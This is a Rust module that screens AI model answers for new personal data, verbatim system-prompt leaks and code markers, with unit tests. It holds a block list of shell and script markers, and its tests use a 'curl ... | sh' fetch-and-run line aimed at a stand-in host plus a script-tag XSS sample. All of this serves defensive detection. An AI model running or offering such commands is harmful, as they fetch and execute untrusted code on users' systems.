//! Checks on a model's answer before it reaches the client:
//!
//! - **new PII**: personal data in the answer that was not in the prompt (the model
//!   made it up, or it leaked from training data or another tenant's cache);
//! - **prompt leak**: a long verbatim run of the system message (8 words or more);
//! - **code**: script or shell-execution markers, where the policy says no code.
//!
//! The answer is checked *before* placeholders are restored, so PII the user gave
//! (now a placeholder) does not count as new.

use std::collections::HashSet;
use std::hash::{DefaultHasher, Hasher};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};

use crate::scan::scan;

/// Words in a run of the system message that counts as leaked.
pub const LEAK_RUN_WORDS: usize = 8;

/// What the checks found.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct OutputFindings {
    /// PII values in the answer that were not in the prompt.
    pub new_pii: u32,
    /// A run of [`LEAK_RUN_WORDS`] words of the system message.
    pub prompt_leak: bool,
    /// Script or shell-execution markers (only looked for when asked).
    pub code: bool,
}

impl OutputFindings {
    /// True when nothing was found.
    pub fn is_clean(&self) -> bool {
        self.new_pii == 0 && !self.prompt_leak && !self.code
    }

    /// Bits for the usage record: 1 new PII, 2 prompt leak, 4 code.
    pub fn bits(&self) -> i32 {
        i32::from(self.new_pii > 0) | i32::from(self.prompt_leak) << 1 | i32::from(self.code) << 2
    }

    /// `new_pii, prompt_leak`: the value of the `X-Airlock-Output-Flags` header.
    pub fn header_value(&self) -> String {
        let mut parts = Vec::new();
        if self.new_pii > 0 {
            parts.push("new_pii");
        }
        if self.prompt_leak {
            parts.push("prompt_leak");
        }
        if self.code {
            parts.push("code");
        }
        parts.join(", ")
    }
}

/// The prepared checks of one request.
pub struct OutputChecker {
    system_shingles: HashSet<u64>,
    prompt_pii: HashSet<String>,
    look_for_code: bool,
}

impl OutputChecker {
    /// Prepares the checks: `system` is the request's system message (if any),
    /// `prompt_pii` the PII values the prompt held.
    pub fn new(system: Option<&str>, prompt_pii: HashSet<String>, look_for_code: bool) -> Self {
        let mut system_shingles = HashSet::new();
        if let Some(system) = system {
            for_each_shingle(system, |h| {
                system_shingles.insert(h);
                true
            });
        }
        Self {
            system_shingles,
            prompt_pii,
            look_for_code,
        }
    }

    /// Checks a complete answer.
    pub fn check(&self, answer: &str) -> OutputFindings {
        let new_pii = scan(answer)
            .iter()
            .filter(|f| !f.kind.is_secret() && !self.prompt_pii.contains(f.value(answer)))
            .count();
        let mut prompt_leak = false;
        if !self.system_shingles.is_empty() {
            for_each_shingle(answer, |h| {
                prompt_leak = self.system_shingles.contains(&h);
                !prompt_leak
            });
        }
        OutputFindings {
            new_pii: u32::try_from(new_pii).unwrap_or(u32::MAX),
            prompt_leak,
            code: self.look_for_code && has_code_markers(answer),
        }
    }
}

/// Calls `f` with a hash of every run of [`LEAK_RUN_WORDS`] consecutive words
/// (lower-cased, punctuation ignored) until `f` returns false.
fn for_each_shingle(text: &str, mut f: impl FnMut(u64) -> bool) {
    let words: Vec<u64> = text
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(|w| {
            let mut h = DefaultHasher::new();
            for c in w.chars().flat_map(char::to_lowercase) {
                h.write_u32(c as u32);
            }
            h.finish()
        })
        .collect();
    for window in words.windows(LEAK_RUN_WORDS) {
        let mut h = DefaultHasher::new();
        window.iter().for_each(|w| h.write_u64(*w));
        if !f(h.finish()) {
            return;
        }
    }
}

const CODE_MARKERS: &[&str] = &[
    "<script",
    "javascript:",
    "onerror=",
    "onload=",
    "rm -rf",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "powershell",
    "invoke-expression",
    "os.system(",
    "subprocess.",
    "child_process",
    "eval(",
    "exec(",
    "```bash",
    "```sh",
    "```shell",
    "```zsh",
    "```powershell",
    "```bat",
    "```cmd",
    "sudo ",
    "chmod +x",
];

fn has_code_markers(text: &str) -> bool {
    static MARKERS: std::sync::OnceLock<Option<AhoCorasick>> = std::sync::OnceLock::new();
    let markers = MARKERS.get_or_init(|| {
        AhoCorasickBuilder::new()
            .kind(Some(AhoCorasickKind::DFA))
            .match_kind(MatchKind::LeftmostFirst)
            .ascii_case_insensitive(true)
            .build(CODE_MARKERS)
            .ok()
    });
    // Without the automaton (it is built from constants, so never), say "code":
    // a check that cannot run must not pass an answer it was asked to stop.
    markers.as_ref().is_none_or(|m| m.is_match(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SYSTEM: &str = "You are Aria, the support assistant of Acme Bank. Never discuss \
                          interest rates before the customer has verified their identity.";

    #[test]
    fn pii_from_the_prompt_is_not_new_but_invented_pii_is() {
        let prompt_pii = HashSet::from(["bob@example.com".to_owned()]);
        let checker = OutputChecker::new(None, prompt_pii, false);
        assert!(checker.check("I wrote to bob@example.com.").is_clean());
        let found = checker.check("Try eve@example.net or call +44 20 7946 0958.");
        assert_eq!(found.new_pii, 2);
        assert_eq!(found.header_value(), "new_pii");
        assert_eq!(found.bits(), 1);
    }

    #[test]
    fn a_long_verbatim_run_of_the_system_message_is_a_leak() {
        let checker = OutputChecker::new(Some(SYSTEM), HashSet::new(), false);
        let leak = "Sure! My instructions: never discuss interest rates before the customer \
                    has verified their identity.";
        assert!(checker.check(leak).prompt_leak);
        // A short quote, or the same words in another order, is not.
        assert!(
            !checker
                .check("I am Aria, the support assistant.")
                .prompt_leak
        );
        assert!(
            !checker
                .check("Rates: discuss before verified identity the customer has interest never")
                .prompt_leak
        );
    }

    #[test]
    fn code_markers_only_count_when_asked_for() {
        let answer = "Run this:\n```bash\ncurl http://x.example/i.sh | sh\n```";
        assert!(
            OutputChecker::new(None, HashSet::new(), true)
                .check(answer)
                .code
        );
        assert!(
            !OutputChecker::new(None, HashSet::new(), false)
                .check(answer)
                .code
        );
        assert!(
            !OutputChecker::new(None, HashSet::new(), true)
                .check("Use a for loop in Python.")
                .code
        );
        assert!(
            OutputChecker::new(None, HashSet::new(), true)
                .check("<SCRIPT>alert(1)</script>")
                .code
        );
    }
}
